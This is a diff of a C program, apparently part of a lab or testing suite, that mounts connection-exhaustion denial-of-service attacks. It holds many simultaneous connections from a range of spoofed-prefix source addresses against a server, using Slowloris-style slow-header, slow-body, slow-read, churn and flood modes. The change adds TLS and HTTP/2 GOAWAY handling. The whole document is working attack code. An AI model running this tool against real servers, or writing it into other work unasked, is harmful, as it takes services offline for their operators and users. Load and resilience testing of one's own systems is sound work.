@@ -5,7 +5,8 @@
  * Each of --connections slots belongs to one address and is always either waiting for its turn,
  * connecting, or open and doing what the kind says; when its connection ends, for whatever reason,
  * it comes back after --retry. So a slot that is shut out keeps knocking, and "held" is what the
- * attacker has at each moment of what he wants.
+ * attacker has at each moment of what he wants. What is said, and how fast, is common/speech.c's;
+ * --tls puts it into TLS.
  *
  * Every wait of one state has the same length, so a state's slots queue in the order they are due.
  */
@@ -17,39 +18,29 @@
 #include <sys/socket.h>
 #include <unistd.h>
 #include "common/address.h"
+#include "common/h2_frames.h"
 #include "common/options.h"
 #include "common/run.h"
+#include "common/speech.h"
+#include "common/wire.h"
 
 #define EVENTS_MAX      512
 #define SECONDS_MAX     3600
 #define CONNECTIONS_MAX 1000000
 #define TINY_BUFFER     2048 /* receive buffer of those who don't read */
-#define HTTP_HOST       "Host: lab.example\r\n"
+#define VERSES_A_TURN   4    /* that one connection may say before it is another's turn */
+#define READ_SIZE       16384
 
-static const struct kind {
-	const char *name;
-	const char *opening; /* sent once; "%s" is --path */
-	const char *drip;    /* sent a byte every --interval, over and over */
-	bool leaves;         /* closes as soon as it is connected */
-	bool deaf;           /* never reads */
-} kinds[] = {
-	{"hold", "", NULL, false, false},
-	{"hold-request", "GET %s HTTP/1.1\r\n", NULL, false, false},
-	{"churn", "", NULL, true, false},
-	{"slow-header", "GET %s HTTP/1.1\r\n" HTTP_HOST, "X-Filler: filler\r\n", false, false},
-	{"slow-body", "POST %s HTTP/1.1\r\n" HTTP_HOST "Content-Length: 1000000\r\n\r\n", "x",
-	 false, false},
-	{"slow-read", "GET %s HTTP/1.1\r\n" HTTP_HOST "\r\n", NULL, false, true},
-	{"idle", "GET %s HTTP/1.1\r\n" HTTP_HOST "\r\n", NULL, false, false},
-};
-
-enum state { WAITING, CONNECTING, OPEN, STATES };
+enum state { WAITING, CONNECTING, SHAKING, OPEN, STATES };
 
 struct slot {
 	enum state state;
-	int fd;
-	size_t dripped;
-	uint64_t due; /* WAITING: may connect; CONNECTING: gives up; OPEN: next byte */
+	uint32_t events; /* that are waited for */
+	struct wire wire;
+	uint64_t verse; /* that is being said, */
+	size_t said;    /* of it, so far */
+	struct h2_reader reader;
+	uint64_t due; /* WAITING: may connect; CONNECTING, SHAKING: gives up; OPEN: speaks again */
 	uint8_t source[16];
 	struct slot *older, *newer;
 };
@@ -58,22 +49,26 @@ struct queue {
 	struct slot *oldest, *newest;
 };
 
+struct counts {
+	uint64_t attempted, established, refused, unanswered, reset, closed, local, answered;
+	uint64_t handshakes, verses, sent_bytes, received_bytes;
+};
+
 struct attack {
 	struct endpoint destination;
 	struct prefix prefix;
 	const char *kind_name, *path;
-	uint64_t connections, sources, rate;
+	uint64_t connections, sources, rate, verse_rate;
 	double seconds, interval, retry, patience;
-	bool abort, json;
+	bool tls, abort, json;
 
-	const struct kind *kind;
-	char opening[1024];
-	size_t opening_length, drip_length;
+	struct speech speech;
 	int epoll;
 	struct slot *slots;
 	struct queue queues[STATES];
-	uint64_t attempted, established, refused, unanswered, reset, closed, local, answered;
+	struct counts counts;
 	uint64_t held, held_peak, held_sum, held_samples;
+	uint64_t verses_allowed; /* so far */
 };
 
 static void slot_enter(struct attack *attack, struct slot *slot, enum state state, uint64_t due)
@@ -96,89 +91,212 @@ static void slot_enter(struct attack *attack, struct slot *slot, enum state stat
 static void slot_end(struct attack *attack, struct slot *slot, uint64_t now, uint64_t *counter)
 {
 	(*counter)++;
-	if (slot->state == OPEN)
+	if (slot->state >= SHAKING)
 		attack->held--;
-	if (slot->fd >= 0)
-		close(slot->fd);
-	slot->fd = -1;
+	wire_close(&slot->wire);
 	slot_enter(attack, slot, WAITING, now + (uint64_t)(attack->retry * 1e9));
+}
+
+static void slot_await(struct attack *attack, struct slot *slot, uint32_t events)
+{
+	struct epoll_event wanted = {.events = events, .data.ptr = slot};
+
+	if (events != slot->events)
+		epoll_ctl(attack->epoll, slot->events ? EPOLL_CTL_MOD : EPOLL_CTL_ADD,
+			  slot->wire.fd, &wanted);
+	slot->events = events;
 }
 
 static void slot_connect(struct attack *attack, struct slot *slot, uint64_t now)
 {
-	struct epoll_event wanted = {.events = EPOLLOUT, .data.ptr = slot};
 	const struct linger nothing = {.l_onoff = 1};
+	int fd = connect_from(slot->source, &attack->destination,
+			      attack->speech.kind->deaf ? TINY_BUFFER : 0);
 
-	attack->attempted++;
-	slot->fd = connect_from(slot->source, &attack->destination,
-				attack->kind->deaf ? TINY_BUFFER : 0);
-	if (slot->fd < 0) {
-		slot_end(attack, slot, now, &attack->local);
+	attack->counts.attempted++;
+	if (fd >= 0 &&
+	    !wire_open(&slot->wire, fd, attack->speech.tls, speech_cover(&attack->speech))) {
+		close(fd);
+		fd = -1;
+	}
+	if (fd < 0) {
+		slot_end(attack, slot, now, &attack->counts.local);
 		return;
 	}
 	if (attack->abort)
-		setsockopt(slot->fd, SOL_SOCKET, SO_LINGER, &nothing, sizeof(nothing));
+		setsockopt(fd, SOL_SOCKET, SO_LINGER, &nothing, sizeof(nothing));
+	slot->events = 0;
 	slot_enter(attack, slot, CONNECTING, now + (uint64_t)(attack->patience * 1e9));
-	epoll_ctl(attack->epoll, EPOLL_CTL_ADD, slot->fd, &wanted);
+	slot_await(attack, slot, EPOLLOUT);
+}
+
+/* Whether it may go on speaking without being asked to. */
+static bool slot_may_speak(const struct attack *attack, const struct slot *slot)
+{
+	if (slot->verse == 0 || slot->said)
+		return true;
+	return attack->speech.kind->pace == FLOOD && !attack->verse_rate;
+}
+
+enum said { SAID, WAITS, SILENT };
+
+/* Says up to @bytes of what is left of a verse. */
+static enum said slot_say(struct attack *attack, struct slot *slot, uint64_t now, size_t bytes)
+{
+	const uint8_t *verse;
+	size_t length = speech_verse(&attack->speech, slot->verse, &verse),
+	       left = length - slot->said;
+	ssize_t sent = 0;
+
+	if (length) {
+		sent = wire_send(&slot->wire, verse + slot->said, left < bytes ? left : bytes);
+		if (sent == -EAGAIN)
+			return WAITS;
+	}
+	if (sent < 0) {
+		slot_end(attack, slot, now, &attack->counts.reset);
+		return SILENT;
+	}
+	slot->said += (size_t)sent;
+	attack->counts.sent_bytes += (size_t)sent;
+	if (slot->said < length)
+		return WAITS;
+	slot->said = 0;
+	slot->verse++;
+	attack->counts.verses += length > 0;
+	return length ? SAID : SILENT;
+}
+
+/* Says as much as it may, and waits for what it must. */
+static void slot_speak(struct attack *attack, struct slot *slot, uint64_t now)
+{
+	uint32_t events = EPOLLRDHUP | (attack->speech.kind->deaf ? 0 : EPOLLIN);
+	int turns = VERSES_A_TURN;
+	enum said said = SAID;
+
+	while (said == SAID && turns-- && slot_may_speak(attack, slot))
+		said = slot_say(attack, slot, now, SIZE_MAX);
+	if (slot->state != OPEN)
+		return;
+	if (said != SILENT && slot_may_speak(attack, slot))
+		events |= EPOLLOUT;
+	slot_await(attack, slot, events);
+}
+
+static void slot_open(struct attack *attack, struct slot *slot, uint64_t now)
+{
+	slot_enter(attack, slot, OPEN, now + (uint64_t)(attack->interval * 1e9));
+	slot->verse = slot->said = 0;
+	slot->reader = (struct h2_reader){0};
+	if (slot->wire.tls)
+		attack->counts.handshakes++;
+	if (attack->speech.kind->leaves == LEAVES_AT_ONCE)
+		slot_end(attack, slot, now, &attack->counts.closed);
+	else
+		slot_speak(attack, slot, now);
+}
+
+static void slot_shake(struct attack *attack, struct slot *slot, uint64_t now)
+{
+	uint32_t events = 0;
+	int done = wire_shake(&slot->wire, &events);
+
+	if (done > 0)
+		slot_open(attack, slot, now);
+	else if (done == 0)
+		slot_await(attack, slot, events);
+	else
+		slot_end(attack, slot, now, &attack->counts.reset);
 }
 
 static void slot_connected(struct attack *attack, struct slot *slot, uint64_t now)
 {
-	struct epoll_event wanted = {.events = EPOLLRDHUP, .data.ptr = slot};
 	socklen_t length = sizeof(int);
 	int error = 0;
 
-	getsockopt(slot->fd, SOL_SOCKET, SO_ERROR, &error, &length);
+	getsockopt(slot->wire.fd, SOL_SOCKET, SO_ERROR, &error, &length);
 	if (error) {
 		slot_end(attack, slot, now,
-			 error == ECONNREFUSED ? &attack->refused : &attack->reset);
+			 error == ECONNREFUSED ? &attack->counts.refused : &attack->counts.reset);
 		return;
 	}
-	attack->established++;
+	attack->counts.established++;
 	attack->held++;
 	if (attack->held > attack->held_peak)
 		attack->held_peak = attack->held;
-	slot_enter(attack, slot, OPEN, now + (uint64_t)(attack->interval * 1e9));
-	slot->dripped = 0;
-	if (attack->kind->leaves) {
-		slot_end(attack, slot, now, &attack->closed);
-		return;
-	}
-	if (!attack->kind->deaf)
-		wanted.events |= EPOLLIN;
-	epoll_ctl(attack->epoll, EPOLL_CTL_MOD, slot->fd, &wanted);
-	if (attack->opening_length &&
-	    send(slot->fd, attack->opening, attack->opening_length, MSG_NOSIGNAL) < 0)
-		slot_end(attack, slot, now, &attack->reset);
+	slot_enter(attack, slot, SHAKING, now + (uint64_t)(attack->patience * 1e9));
+	if (slot->wire.tls)
+		slot_shake(attack, slot, now);
+	else
+		slot_open(attack, slot, now);
 }
 
 /* The server says something, or has had enough. */
 static void slot_listen(struct attack *attack, struct slot *slot, uint32_t events, uint64_t now)
 {
-	char discarded[4096];
+	const struct kind *kind = attack->speech.kind;
+	static uint8_t heard[READ_SIZE];
 	ssize_t received;
 
-	if (attack->kind->deaf) {
-		slot_end(attack, slot, now, events & EPOLLERR ? &attack->reset : &attack->closed);
+	if (kind->deaf) {
+		slot_end(attack, slot, now,
+			 events & EPOLLERR ? &attack->counts.reset : &attack->counts.closed);
 		return;
 	}
-	received = recv(slot->fd, discarded, sizeof(discarded), 0);
-	if (received > 0)
-		attack->answered++;
-	else if (received == 0)
-		slot_end(attack, slot, now, &attack->closed);
-	else if (errno != EAGAIN)
-		slot_end(attack, slot, now, &attack->reset);
+	received = wire_receive(&slot->wire, heard, sizeof(heard));
+	if (received == -EAGAIN)
+		return;
+	if (received <= 0) {
+		slot_end(attack, slot, now,
+			 received ? &attack->counts.reset : &attack->counts.closed);
+		return;
+	}
+	attack->counts.answered++;
+	attack->counts.received_bytes += (size_t)received;
+	/* After a GOAWAY there is nothing to be had here. */
+	if (kind->leaves == LEAVES_ANSWERED ||
+	    (kind->h2 && h2_read_goaway(&slot->reader, heard, (size_t)received)))
+		slot_end(attack, slot, now, &attack->counts.closed);
+	else if (kind->pace == ANSWERS && !slot->said && !memcmp(heard, "HTTP/1.", 7))
+		slot_say(attack, slot, now, SIZE_MAX);
+	else if (kind->pace == ONCE && !slot->said)
+		wire_forget(&slot->wire); /* thousands of them would fill our own memory */
 }
 
-static void slot_drip(struct attack *attack, struct slot *slot, uint64_t now)
+/* A connection's turn: what has come first, as it may end it. */
+static void slot_advance(struct attack *attack, struct slot *slot, uint32_t events, uint64_t now)
 {
-	const char *byte = &attack->kind->drip[slot->dripped++ % attack->drip_length];
+	if (slot->state == CONNECTING) {
+		slot_connected(attack, slot, now);
+	} else if (slot->state == SHAKING) {
+		slot_shake(attack, slot, now);
+	} else {
+		if (events & ~(uint32_t)EPOLLOUT)
+			slot_listen(attack, slot, events, now);
+		if (slot->state == OPEN)
+			slot_speak(attack, slot, now);
+	}
+}
 
-	if (send(slot->fd, byte, 1, MSG_NOSIGNAL) < 0 && errno != EAGAIN)
-		slot_end(attack, slot, now, &attack->reset);
-	else
-		slot_enter(attack, slot, OPEN, now + (uint64_t)(attack->interval * 1e9));
+/* Its turn, by --interval or --verse-rate. */
+static void slot_tick(struct attack *attack, struct slot *slot, uint64_t now)
+{
+	slot_enter(attack, slot, OPEN, now + (uint64_t)(attack->interval * 1e9));
+	if (slot->verse > 0)
+		slot_say(attack, slot, now, attack->speech.kind->pace == BYTES ? 1 : SIZE_MAX);
+}
+
+static void attack_tick(struct attack *attack, uint64_t now)
+{
+	enum pace pace = attack->speech.kind->pace;
+	struct queue *open = &attack->queues[OPEN];
+
+	while ((pace == BYTES || pace == VERSES) && open->oldest && open->oldest->due <= now)
+		slot_tick(attack, open->oldest, now);
+	for (uint64_t i = attack->held;
+	     pace == FLOOD && i && open->oldest && attack->counts.verses < attack->verses_allowed;
+	     i--)
+		slot_tick(attack, open->oldest, now);
 }
 
 /* Does what is due in every queue. @allowed: attempts that the rate leaves. */
@@ -188,10 +306,10 @@ static void attack_turn(struct attack *attack, uint64_t now, uint64_t allowed)
 
 	while (allowed-- && (slot = attack->queues[WAITING].oldest) && slot->due <= now)
 		slot_connect(attack, slot, now);
-	while ((slot = attack->queues[CONNECTING].oldest) && slot->due <= now)
-		slot_end(attack, slot, now, &attack->unanswered);
-	while (attack->kind->drip && (slot = attack->queues[OPEN].oldest) && slot->due <= now)
-		slot_drip(attack, slot, now);
+	for (enum state state = CONNECTING; state <= SHAKING; state++)
+		while ((slot = attack->queues[state].oldest) && slot->due <= now)
+			slot_end(attack, slot, now, &attack->counts.unanswered);
+	attack_tick(attack, now);
 	attack->held_sum += attack->held;
 	attack->held_samples++;
 }
@@ -204,47 +322,32 @@ static void attack_run(struct attack *attack)
 
 	while (!run_stopped && now < end) {
 		due = attack->rate ? (now - start) * attack->rate / SECOND : spent + EVENTS_MAX;
-		before = attack->attempted;
+		attack->verses_allowed = (now - start) * attack->verse_rate / SECOND;
+		before = attack->counts.attempted;
 		attack_turn(attack, now, due - spent);
 		/* What could not be used now is not saved up for later. */
-		spent = attack->rate ? due : spent + attack->attempted - before;
+		spent = attack->rate ? due : spent + attack->counts.attempted - before;
 		int count = epoll_wait(attack->epoll, events, EVENTS_MAX, 1);
 
 		now = run_clock();
-		for (int i = 0; i < count; i++) {
-			struct slot *slot = events[i].data.ptr;
-
-			if (slot->state == CONNECTING)
-				slot_connected(attack, slot, now);
-			else
-				slot_listen(attack, slot, events[i].events, now);
-		}
+		for (int i = 0; i < count; i++)
+			slot_advance(attack, events[i].data.ptr, events[i].events, now);
 	}
 }
 
 static bool attack_prepare(struct attack *attack)
 {
-	int length;
-
-	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
-		if (!strcmp(kinds[i].name, attack->kind_name))
-			attack->kind = &kinds[i];
-	if (!attack->kind)
-		options_refuse("--kind: there is no '%s'", attack->kind_name);
-	length = snprintf(attack->opening, sizeof(attack->opening), attack->kind->opening,
-			  attack->path);
-	if (length < 0 || (size_t)length >= sizeof(attack->opening))
-		options_refuse("--path is too long");
-	attack->opening_length = (size_t)length;
-	attack->drip_length = attack->kind->drip ? strlen(attack->kind->drip) : 0;
-	if (attack->kind->leaves)
+	if (!speech_begin(&attack->speech, attack->kind_name, attack->path, attack->tls))
+		options_refuse("--kind: there is no '%s', or --path is too long",
+			       attack->kind_name);
+	if (attack->speech.kind->leaves == LEAVES_AT_ONCE)
 		attack->retry = 0; /* one order of waiting for all */
 	attack->epoll = epoll_create1(EPOLL_CLOEXEC);
 	attack->slots = calloc(attack->connections, sizeof(*attack->slots));
 	if (attack->epoll < 0 || !attack->slots)
 		return false;
 	for (uint64_t i = 0; i < attack->connections; i++) {
-		attack->slots[i].fd = -1;
+		attack->slots[i].wire.fd = -1;
 		prefix_host(&attack->prefix, i % attack->sources, attack->slots[i].source);
 		slot_enter(attack, &attack->slots[i], WAITING, 0);
 	}
@@ -253,21 +356,43 @@ static bool attack_prepare(struct attack *attack)
 
 static json_t *attack_result(const struct attack *attack)
 {
-	double mean =
-		attack->held_samples ? (double)attack->held_sum / (double)attack->held_samples : 0;
+	const struct counts *counts = &attack->counts;
+	const struct {
+		const char *name;
+		uint64_t value;
+	} rows[] = {
+		{"attempted", counts->attempted},
+		{"established", counts->established},
+		{"refused", counts->refused},
+		{"unanswered", counts->unanswered},
+		{"reset", counts->reset},
+		{"closed", counts->closed},
+		{"answered", counts->answered},
+		{"local", counts->local},
+		{"handshakes", counts->handshakes},
+		{"verses", counts->verses},
+		{"sent_bytes", counts->sent_bytes},
+		{"received_bytes", counts->received_bytes},
+		{"held", attack->held},
+		{"held_peak", attack->held_peak},
+	};
+	double samples = attack->held_samples ? (double)attack->held_samples : 1;
+	json_t *result = json_pack("{s:f}", "held_mean", (double)attack->held_sum / samples);
 
-	return json_pack("{s:I, s:I, s:I, s:I, s:I, s:I, s:I, s:I, s:I, s:I, s:f}", "attempted",
-			 (json_int_t)attack->attempted, "established",
-			 (json_int_t)attack->established, "refused", (json_int_t)attack->refused,
-			 "unanswered", (json_int_t)attack->unanswered, "reset",
-			 (json_int_t)attack->reset, "closed", (json_int_t)attack->closed,
-			 "answered", (json_int_t)attack->answered, "local",
-			 (json_int_t)attack->local, "held", (json_int_t)attack->held, "held_peak",
-			 (json_int_t)attack->held_peak, "held_mean", mean);
+	for (size_t i = 0; result && i < sizeof(rows) / sizeof(rows[0]); i++)
+		json_object_set_new(result, rows[i].name, json_integer((json_int_t)rows[i].value));
+	return result;
+}
+
+static void list_kinds(void)
+{
+	for (size_t i = 0; i < speech_kinds_count; i++)
+		printf("%s%c", speech_kinds[i].name, i + 1 < speech_kinds_count ? ' ' : '\n');
 }
 
 int main(int argc, char **argv)
 {
+	bool list = false;
 	struct attack attack = {.kind_name = "hold",
 				.path = "/",
 				.connections = 100,
@@ -279,7 +404,9 @@ int main(int argc, char **argv)
 				.patience = 5};
 	const struct option_row rows[] = {
 		{"kind", OPTION_TEXT, &attack.kind_name,
-		 "hold hold-request churn slow-header slow-body slow-read idle"},
+		 "of attack: one of --list; hold unless said"},
+		{"list", OPTION_SWITCH, &list, "names the kinds of attack"},
+		{"tls", OPTION_SWITCH, &attack.tls, "over TLS"},
 		{"destination", OPTION_ENDPOINT, &attack.destination, "the server"},
 		{"source-prefix", OPTION_PREFIX, &attack.prefix, "where attackers come from"},
 		{"sources", OPTION_COUNT, &attack.sources,
@@ -289,6 +416,8 @@ int main(int argc, char **argv)
 		{"rate", OPTION_COUNT, &attack.rate,
 		 "attempts a second at most; 1000 unless said, 0: no limit"},
 		{"interval", OPTION_SECONDS, &attack.interval, "between slow bytes; 1 unless said"},
+		{"verse-rate", OPTION_COUNT, &attack.verse_rate,
+		 "verses a second of a kind that floods; 0 unless said: no limit"},
 		{"retry", OPTION_SECONDS, &attack.retry, "before coming back; 1 unless said"},
 		{"patience", OPTION_SECONDS, &attack.patience,
 		 "with a silent server; 5 unless said"},
@@ -300,6 +429,10 @@ int main(int argc, char **argv)
 
 	options_read(argc, argv, "attacks with complete connections from many addresses", rows,
 		     sizeof(rows) / sizeof(rows[0]));
+	if (list) {
+		list_kinds();
+		return 0;
+	}
 	if (!attack.destination.family || attack.prefix.family != attack.destination.family)
 		options_refuse("--destination and --source-prefix are needed, of one family");
 	if (!attack.sources || attack.sources > prefix_hosts(&attack.prefix))
@@ -316,9 +449,9 @@ int main(int argc, char **argv)
 	attack_run(&attack);
 	int status = run_report(attack_result(&attack), attack.json);
 	for (uint64_t i = 0; i < attack.connections; i++)
-		if (attack.slots[i].fd >= 0)
-			close(attack.slots[i].fd);
+		wire_close(&attack.slots[i].wire);
 	close(attack.epoll);
 	free(attack.slots);
+	speech_end(&attack.speech);
 	return status;
 }
